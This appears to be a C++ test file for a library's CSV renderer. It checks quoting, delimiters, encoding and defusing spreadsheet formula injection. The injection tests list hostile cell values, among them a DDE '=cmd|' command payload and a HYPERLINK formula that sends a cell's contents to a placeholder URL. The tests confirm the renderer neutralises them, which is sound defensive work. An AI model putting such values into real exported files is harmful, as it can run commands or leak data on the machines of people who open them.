#include "outlive/report/csv_renderer.h"

#include <absl/status/status.h>
#include <absl/time/civil_time.h>
#include <absl/time/time.h>
#include <doctest/doctest.h>

#include <cstdint>
#include <limits>
#include <string>
#include <utility>
#include <vector>

#include "tests/report/helpers.h"

namespace {

using namespace outlive_report_tests;
using outlive::Cell;
using outlive::CsvOptions;
using outlive::CsvRenderer;
using outlive::Row;

std::string Csv(const outlive::Report& report, CsvOptions options = {}) {
  CsvRenderer renderer(std::move(options));
  return RenderToString(renderer, report);
}

// One cell, read back as its line of the file. A second column keeps the line from being empty.
std::string Line(Cell cell, CsvOptions options = {}) {
  const std::string all = Csv(
      TableReport({{.title = "a"}, {.title = "b"}}, {Row{std::move(cell), Cell(std::int64_t{1})}}),
      std::move(options));
  const std::size_t header = all.find("\r\n") + 2;
  return all.substr(header, all.size() - header - std::string(",1\r\n").size());
}

TEST_CASE("csv: one table is its titles and its rows, to the byte") {
  const outlive::Report report = TableReport(
      {{.title = "Name"},
       {.title = "Count"},
       {.title = "Cost, total"},
       {.title = "Day"},
       {.title = "At"},
       {.title = "Ok"}},
      {{"Ann", std::int64_t{1234567}, 0.125, absl::CivilDay(2024, 1, 31), TestTime(), true},
       {"Bob \"B\"", std::int64_t{-5}, -1e20, Cell(), Cell(), false},
       {"two\nlines", Cell(), 3.0}});
  CHECK(Csv(report) ==
        "Name,Count,\"Cost, total\",Day,At,Ok\r\n"
        "Ann,1234567,0.125,2024-01-31,2024-03-09T14:05:09Z,true\r\n"
        "\"Bob \"\"B\"\"\",-5,-1e+20,,,false\r\n"
        "\"two\nlines\",,3,,,\r\n");
}

TEST_CASE("csv: several tables have titles and an empty line between them") {
  outlive::Report report = MakeReport({});
  report.sections.emplace_back(outlive::Heading{"Not in the file", 1});
  report.sections.emplace_back(MakeTable("First", {{.title = "a"}}, {{std::int64_t{1}}}));
  report.sections.emplace_back(outlive::Paragraph{"Not in the file"});
  report.sections.emplace_back(MakeTable("Second", {{.title = "b"}, {.title = "c"}}, {}));
  CHECK(Csv(report) == "First\r\na\r\n1\r\n\r\nSecond\r\nb,c\r\n");

  CsvOptions only_second;
  only_second.select = [](const outlive::Table& table) { return table.title == "Second"; };
  CHECK(Csv(report, only_second) == "b,c\r\n");

  CsvOptions none;
  none.select = [](const outlive::Table&) { return false; };
  CHECK(Csv(report, none).empty());
}

TEST_CASE("csv: text that a spreadsheet would run is made harmless") {
  struct Case {
    std::string text;
    std::string line;
  };
  const std::vector<Case> cases = {
      {"=1+1", "\"'=1+1\""},
      {"+1", "\"'+1\""},
      {"-1", "\"'-1\""},
      {"@SUM(A1)", "\"'@SUM(A1)\""},
      {"\t=1", "\"'\t=1\""},
      {"\tx", "\"'\tx\""},
      {"\r=1", "\"'\r=1\""},
      {"\n=1", "\"'\n=1\""},
      {"  =1", "\"'  =1\""},
      {"\u00A0=1", "\"'\u00A0=1\""},
      {"\uFEFF=1", "\"'\uFEFF=1\""},
      {"\u200B=1", "\"'\u200B=1\""},
      {"\u3000=1", "\"'\u3000=1\""},
      {"\uFF1D1+1", "\"'\uFF1D1+1\""},
      {"\uFF0B1", "\"'\uFF0B1\""},
      {"\uFF0D1", "\"'\uFF0D1\""},
      {"\uFF20SUM", "\"'\uFF20SUM\""},
      {"=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""},
      {"=HYPERLINK(\"http://x?\"&A1,\"ok\")", "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"ok\"\")\""},
      {"\",=1", "\"\"\",=1\""},  // A quote cannot open a field of its own.
      {"a=1", "a=1"},
      {"a-b", "a-b"},
      {"'quoted", "'quoted"},
      {"", ""},
      {" ", "\" \""},
      {"ann@example.com", "ann@example.com"},
  };
  for (const Case& c : cases) {
    CAPTURE(c.text);
    CHECK(Line(c.text) == c.line);
  }
}

TEST_CASE("csv: column titles and table titles are protected like cells") {
  outlive::Report report = MakeReport({});
  report.sections.emplace_back(MakeTable("=one", {{.title = "=a"}}, {}));
  report.sections.emplace_back(MakeTable("two", {{.title = "b"}}, {}));
  CHECK(Csv(report) == "\"'=one\"\r\n\"'=a\"\r\n\r\ntwo\r\nb\r\n");
}

TEST_CASE("csv: numbers and dates are never taken for formulas") {
  CHECK(Line(std::int64_t{-5}) == "-5");
  CHECK(Line(-0.5) == "-0.5");
  CHECK(Line(std::numeric_limits<std::int64_t>::min()) == "-9223372036854775808");
  CHECK(Line(absl::CivilDay(-44, 3, 15)) == "-44-03-15");
  CHECK(Line(0.1) == "0.1");
  CHECK(Line(1.0 / 3) == "0.3333333333333333");
  CHECK(Line(std::numeric_limits<double>::quiet_NaN()) == "NaN");
  CHECK(Line(-std::numeric_limits<double>::infinity()) == "-Infinity");
}

TEST_CASE("csv: the protection can be switched off") {
  CsvOptions options;
  options.formula_protection = false;
  CHECK(Line("=1+1", options) == "=1+1");
  CHECK(Line("-1", options) == "-1");
}

TEST_CASE("csv: the delimiter is quoted, whatever it is") {
  CsvOptions options;
  options.delimiter = ';';
  const outlive::Report report =
      TableReport({{.title = "a"}, {.title = "b"}}, {{"x;y", "x,y"}, {"1", "2"}});
  CHECK(Csv(report, options) == "a;b\r\n\"x;y\";x,y\r\n1;2\r\n");

  options.delimiter = '"';
  CsvRenderer renderer(options);
  TestProgress progress;
  outlive::StringSink sink;
  CHECK(absl::IsInvalidArgument(renderer.Render(report, progress, sink)));
  CHECK(sink.bytes().empty());
}

TEST_CASE("csv: a byte order mark comes first, once") {
  CsvOptions options;
  options.byte_order_mark = true;
  CHECK(Csv(TableReport({{.title = "a"}}, {}), options) ==
        "\xEF\xBB\xBF"
        "a\r\n");
}

TEST_CASE("csv: an empty field alone on its line is still a row") {
  CHECK(Csv(TableReport({{.title = "a"}}, {{Cell()}, {""}, {"x"}, {}})) ==
        "a\r\n\"\"\r\n\"\"\r\nx\r\n\"\"\r\n");
}

TEST_CASE("csv: bytes that are not text are replaced") {
  CHECK(Line(std::string("a\0b", 3)) == "a\uFFFDb");
  CHECK(Line("a\xFF\xFE") == "a\uFFFD\uFFFD");
  CHECK(Line("\x1B[31mred") == "\uFFFD[31mred");
  CHECK(Line("\u4E2D\u6587") == "\u4E2D\u6587");
}

TEST_CASE("csv: another reader gets back what was written") {
  std::vector<Row> rows;
  for (const char* text : {"plain", "a,b", "say \"hi\"", "line\r\nbreak", " padded ",
                           "\u00E9\u4E2D", "semi;colon", "tab\tinside", "=1+1"}) {
    rows.push_back({text, "end"});
  }
  const TempDir dir;
  const std::string file =
      dir.Write("a.csv", Csv(TableReport({{.title = "text"}, {.title = "end"}}, rows)));
  const std::string out = RunPython(R"(
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8'), strict=True))
print(ascii(rows))
)",
                                    file);
  CHECK(out ==
        "[['text', 'end'], ['plain', 'end'], ['a,b', 'end'], ['say \"hi\"', 'end'], "
        "['line\\r\\nbreak', 'end'], [' padded ', 'end'], ['\\xe9\\u4e2d', 'end'], "
        "['semi;colon', 'end'], ['tab\\tinside', 'end'], [\"'=1+1\", 'end']]\n");
}

}  // namespace
